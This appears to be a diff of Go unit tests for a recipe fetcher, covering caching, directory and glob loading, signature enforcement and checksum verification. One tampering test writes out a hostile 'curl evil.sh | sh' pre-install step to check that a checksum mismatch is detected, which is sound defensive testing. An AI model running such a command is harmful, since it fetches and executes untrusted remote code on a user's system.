@@ -3,11 +3,15 @@ package recipes
 import (
 	"bytes"
 	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
 	"io"
 	"io/ioutil"
 	"net/http"
 	"net/url"
 	"os"
+	"path/filepath"
 	"reflect"
 	"strings"
 	"testing"
@@ -156,6 +160,65 @@ func TestUrlFetchRecipesShouldFail(t *testing.T) {
 	require.Nil(t, f)
 }
 
+func TestUrlFetchRecipesShouldUseCacheWhenNotModified(t *testing.T) {
+	url := "https://localhost/valid-url"
+	cache := NewRecipeCache(t.TempDir())
+	require.NoError(t, cache.Put([]byte(testRecipeFileString), &RecipeCacheEntry{URL: url, ETag: `"v1"`}))
+
+	var sentETag string
+	ff := NewRecipeFileFetcher([]string{url}).WithCache(cache)
+	ff.conditionalGetFunc = func(recipeURL string, etag string) (*http.Response, error) {
+		sentETag = etag
+		return &http.Response{
+			StatusCode: http.StatusNotModified,
+			Body:       ioutil.NopCloser(bytes.NewBufferString("")),
+		}, nil
+	}
+
+	f, err := ff.FetchRecipes(context.TODO())
+
+	require.NoError(t, err)
+	require.Equal(t, `"v1"`, sentETag)
+	require.Equal(t, "testName", f[0].Name)
+}
+
+func TestUrlFetchRecipesShouldFallBackToCacheWhenUnavailable(t *testing.T) {
+	url := "https://localhost/valid-url"
+	cache := NewRecipeCache(t.TempDir())
+	require.NoError(t, cache.Put([]byte(testRecipeFileString), &RecipeCacheEntry{URL: url}))
+
+	ff := NewRecipeFileFetcher([]string{url}).WithCache(cache)
+	ff.HTTPGetFunc = func(recipeURL string) (*http.Response, error) {
+		return nil, errors.New("connection refused")
+	}
+
+	f, err := ff.FetchRecipes(context.TODO())
+
+	require.NoError(t, err)
+	require.Equal(t, "testName", f[0].Name)
+}
+
+func TestUrlFetchRecipesShouldStoreFetchedRecipeInCache(t *testing.T) {
+	url := "https://localhost/valid-url"
+	cache := NewRecipeCache(t.TempDir())
+
+	ff := NewRecipeFileFetcher([]string{url}).WithCache(cache)
+	ff.HTTPGetFunc = func(recipeURL string) (*http.Response, error) {
+		return &http.Response{
+			StatusCode: 200,
+			Header:     http.Header{"Etag": []string{`"v2"`}},
+			Body:       ioutil.NopCloser(bytes.NewBufferString(testRecipeFileString)),
+		}, nil
+	}
+
+	_, err := ff.FetchRecipes(context.TODO())
+	require.NoError(t, err)
+
+	_, entry, ok := cache.Get(url)
+	require.True(t, ok)
+	require.Equal(t, `"v2"`, entry.ETag)
+}
+
 func TestFileFetchRecipesShouldFailOnNonPath(t *testing.T) {
 
 	noneExistPath := "testPath12345"
@@ -188,6 +251,45 @@ func TestFileFetchRecipesShouldFetchSuccessfully(t *testing.T) {
 	require.Equal(t, "testName", f[0].Name)
 }
 
+func TestFileFetchRecipesShouldLoadDirectoryRecursively(t *testing.T) {
+	dir := t.TempDir()
+	require.NoError(t, os.MkdirAll(filepath.Join(dir, "nested"), 0755))
+	require.NoError(t, ioutil.WriteFile(filepath.Join(dir, "a.yml"), []byte("name: recipe-a"), 0600))
+	require.NoError(t, ioutil.WriteFile(filepath.Join(dir, "nested", "b.yaml"), []byte("name: recipe-b"), 0600))
+	require.NoError(t, ioutil.WriteFile(filepath.Join(dir, "README.md"), []byte("not a recipe"), 0600))
+
+	ff := NewRecipeFileFetcher([]string{dir})
+
+	f, err := ff.FetchRecipes(context.TODO())
+
+	require.NoError(t, err)
+	require.Equal(t, 2, len(f))
+	require.Equal(t, "recipe-a", f[0].Name)
+	require.Equal(t, "recipe-b", f[1].Name)
+}
+
+func TestFileFetchRecipesShouldExpandGlobPatterns(t *testing.T) {
+	dir := t.TempDir()
+	require.NoError(t, ioutil.WriteFile(filepath.Join(dir, "a.yml"), []byte("name: recipe-a"), 0600))
+	require.NoError(t, ioutil.WriteFile(filepath.Join(dir, "b.yml"), []byte("name: recipe-b"), 0600))
+
+	ff := NewRecipeFileFetcher([]string{filepath.Join(dir, "*.yml"), filepath.Join(dir, "a.yml")})
+
+	f, err := ff.FetchRecipes(context.TODO())
+
+	require.NoError(t, err)
+	require.Equal(t, 2, len(f))
+}
+
+func TestFileFetchRecipesShouldFailWhenGlobMatchesNothing(t *testing.T) {
+	ff := NewRecipeFileFetcher([]string{filepath.Join(t.TempDir(), "*.yml")})
+
+	f, err := ff.FetchRecipes(context.TODO())
+
+	require.Error(t, err)
+	require.Nil(t, f)
+}
+
 func TestNewRecipeFile(t *testing.T) {
 	var expected types.OpenInstallationRecipe
 	err := yaml.Unmarshal([]byte(testRecipeFileString), &expected)
@@ -197,3 +299,75 @@ func TestNewRecipeFile(t *testing.T) {
 	require.NoError(t, err)
 	require.True(t, reflect.DeepEqual(&expected, actual))
 }
+
+func TestFetchRecipeFileShouldRejectUnsignedRecipeWhenRequired(t *testing.T) {
+	_, pub := newTestCosignKey(t)
+	v, s := newTestSignatureVerifier(t, true, map[string]string{})
+	_, err := s.Add("team-a", pub)
+	require.NoError(t, err)
+
+	ff := NewRecipeFileFetcher([]string{}).WithVerifier(v)
+	ff.HTTPGetFunc = func(string) (*http.Response, error) {
+		return &http.Response{
+			StatusCode: http.StatusOK,
+			Body:       io.NopCloser(strings.NewReader(testRecipeFileString)),
+		}, nil
+	}
+	u, err := url.Parse(testRecipeURL)
+	require.NoError(t, err)
+
+	_, err = ff.FetchRecipeFile(u)
+
+	require.Error(t, err)
+	require.Contains(t, err.Error(), "is not signed")
+}
+
+func TestFetchRecipeFileShouldVerifyPublishedChecksum(t *testing.T) {
+	sum := sha256.Sum256([]byte(testRecipeFileString))
+	checksum := hex.EncodeToString(sum[:])
+	published := map[string]string{
+		testRecipeURL:                     testRecipeFileString,
+		testRecipeURL + ChecksumExtension: checksum + "  recipe.yml\n",
+	}
+	ff := NewRecipeFileFetcher([]string{})
+	ff.HTTPGetFunc = func(u string) (*http.Response, error) {
+		body, ok := published[u]
+		if !ok {
+			return &http.Response{StatusCode: http.StatusNotFound, Body: io.NopCloser(strings.NewReader(""))}, nil
+		}
+		return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(body))}, nil
+	}
+	u, err := url.Parse(testRecipeURL)
+	require.NoError(t, err)
+
+	_, err = ff.FetchRecipeFile(u)
+	require.NoError(t, err)
+
+	published[testRecipeURL] = testRecipeFileString + "\npreInstall:\n  requireAtDiscovery: curl evil.sh | sh\n"
+	_, err = ff.FetchRecipeFile(u)
+	require.Error(t, err)
+	require.Contains(t, err.Error(), "doesn't match the checksum "+checksum)
+}
+
+func TestFetchRecipeFileShouldRequireGivenChecksum(t *testing.T) {
+	sum := sha256.Sum256([]byte(testRecipeFileString))
+	ff := NewRecipeFileFetcher([]string{}).WithChecksums([]string{strings.ToUpper(hex.EncodeToString(sum[:]))})
+	ff.HTTPGetFunc = func(string) (*http.Response, error) {
+		return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(testRecipeFileString))}, nil
+	}
+	u, err := url.Parse(testRecipeURL)
+	require.NoError(t, err)
+
+	_, err = ff.FetchRecipeFile(u)
+	require.NoError(t, err)
+
+	ff.checksums = []string{strings.Repeat("0", 64)}
+	_, err = ff.FetchRecipeFile(u)
+	require.Error(t, err)
+}
+
+func TestIsSHA256Checksum(t *testing.T) {
+	assert.True(t, IsSHA256Checksum(strings.Repeat("a1", 32)))
+	assert.False(t, IsSHA256Checksum("a1"))
+	assert.False(t, IsSHA256Checksum(strings.Repeat("z1", 32)))
+}